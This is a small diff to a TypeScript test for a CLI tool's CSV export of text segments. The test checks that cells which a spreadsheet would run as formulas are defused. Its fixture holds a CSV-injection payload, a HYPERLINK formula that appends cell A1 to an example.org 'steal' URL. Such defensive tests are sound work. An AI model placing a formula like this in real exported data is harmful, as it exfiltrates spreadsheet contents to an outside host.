@@ -7,7 +7,7 @@ const segmentsCommand = searchCommands.find((c) => c.name === 'segments') as Cli
 
 describe('casus segments --csv', () => {
   it('defuses a segment that a spreadsheet would run as a formula, like every CSV Casus writes', async () => {
-    const { p, byKey } = await codingProject();
+    const { p, byKey } = await codingProject({ file: true });
     const text = '=HYPERLINK("https://example.org/steal?"&A1,"klik hier")\n+31 6 1234 5678';
     const sourceId = addSource(p, text, 'Vijandige bron');
     const first = text.indexOf('\n');
